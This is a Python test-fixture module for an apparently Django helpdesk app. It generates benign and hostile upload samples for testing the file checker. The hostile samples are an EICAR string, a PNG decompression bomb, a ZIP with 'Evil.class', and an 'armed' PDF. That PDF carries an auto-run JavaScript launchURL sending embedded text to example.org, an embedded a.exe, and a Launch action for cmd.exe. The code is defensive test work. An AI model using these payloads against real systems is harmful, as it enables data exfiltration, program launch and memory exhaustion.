"""Makes files as people and attackers make them: pictures, documents, and things in disguise."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence
from typing import Any

import pypdfium2
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from cases.files.actions import Sent, keep_files
from cases.files.models import Attachment
from cases.files.rules.pixel_pdf import pixel_pdf
from cases.files.tasks import check
from cases.requests.models import HelpRequest
from helpdesk.accounts.actors import ByReceipt
from helpdesk.accounts.models import User
from tests.factories.requests import Holder

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def picture(
    form: str = "JPEG", size: tuple[int, int] = (320, 200), mode: str = "RGB", **options: Any
) -> bytes:
    """A picture whose left half is red and whose right half is blue."""
    made = Image.new("RGB", size, "blue")
    made.paste("red", (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    made.convert(mode).save(out, form, **options)
    return out.getvalue()


def noisy(form: str, size: tuple[int, int], mode: str = "RGB", **options: Any) -> bytes:
    """A picture that hardly compresses, like a photo of a crumpled page."""
    out = io.BytesIO()
    small = (max(size[0] // 4, 1), max(size[1] // 4, 1))
    Image.effect_noise(small, 90).resize(size).convert(mode).save(out, form, **options)
    return out.getvalue()


def photo_with_place(words: str) -> bytes:
    """A photo whose EXIF tells a place, a device and a remark."""
    exif = Image.Exif()
    exif[0x010E], exif[0x0110], exif[0x0112] = words, f"camera {words}", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (53.0, 54.0, 27.0), 3: "E", 4: (27.0, 33.0, 41.0)})
    return picture("JPEG", exif=exif.tobytes(), comment=words.encode())


def document(pages: int = 1, *, size: tuple[float, float] = (595, 842)) -> bytes:
    """A PDF of empty pages."""
    made, out = pypdfium2.PdfDocument.new(), io.BytesIO()
    for _ in range(pages):
        made.new_page(*size)
    made.save(out)
    made.close()
    return out.getvalue()


def photo_album(pages: int, *, most_bytes: int) -> bytes:
    """A scanned PDF as large as may be: one photo on each page."""
    photo, quality = b"", 90
    while not photo or len(photo) * pages > most_bytes - pages * 1000:
        quality -= 5
        photo = noisy("JPEG", (1240, 1754), quality=quality)
    return pixel_pdf([photo] * pages)


def raw_pdf(things: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF out of hand-written objects; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, thing in enumerate(things, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(things) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(things) + 1, trailer, start,
    )  # fmt: skip
    return bytes(out)


def armed_pdf(words: str) -> bytes:
    """A PDF with a script at its opening, a file inside, links, a program to launch and words about it."""
    secret = words.encode("utf-8")
    inside = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream" % (len(secret), secret)
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R"
            b" /Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> /JavaScript << /Names [(b) 4 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [7 0 R 8 0 R] >>",
            b"<< /S /JavaScript /JS (app.launchURL\\('https://example.org/%s'\\)) >>" % secret,
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            inside,
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>",
            b"<< /Title (%s) /Author (%s) >>" % (secret, secret),
        ],
        trailer=b"/Info 9 0 R",
    )


def locked_pdf() -> bytes:
    """A PDF that asks for a password (standard handler, hashes that no empty password fits)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
            b"<< /Filter /Standard /V 1 /R 2 /P -44 /O <%s> /U <%s> >>" % (b"ab" * 32, b"cd" * 32),
        ],
        trailer=b"/Encrypt 4 0 R /ID [<00> <00>]",
    )


def bomb(side: int = 30_000) -> bytes:
    """A PNG of a few hundred kilobytes that wants side x side bytes of memory."""
    press, rows = zlib.compressobj(9), bytearray()
    for _ in range(side):
        rows += press.compress(bytes(side + 1))
    rows += press.flush()

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", bytes(rows)) + chunk(b"IEND", b"")


def archive() -> bytes:
    """A ZIP, as it can hide behind a picture."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("Evil.class", b"\xca\xfe\xba\xbe")
    return out.getvalue()


def upload(content: bytes, name: str = "a.jpg", content_type: str = "image/jpeg") -> SimpleUploadedFile:
    """A file as the test browser sends it."""
    return SimpleUploadedFile(name, content, content_type)


def send_file(
    help_request: HelpRequest,
    content: bytes,
    *,
    by: Holder | User | ByReceipt,
    name: str = "letter.jpg",
    checked: bool = True,
) -> Attachment:
    """A file through the real action, and through the worker's check unless it should wait."""
    files = [Sent(name, content)]
    if isinstance(by, Holder):
        made = keep_files(help_request=help_request, files=files, by=by.actor, opener=by.key)[0]
    else:
        made = keep_files(help_request=help_request, files=files, by=by)[0]
    if checked:
        check(str(made.pk))
    return Attachment.objects.get(pk=made.pk)
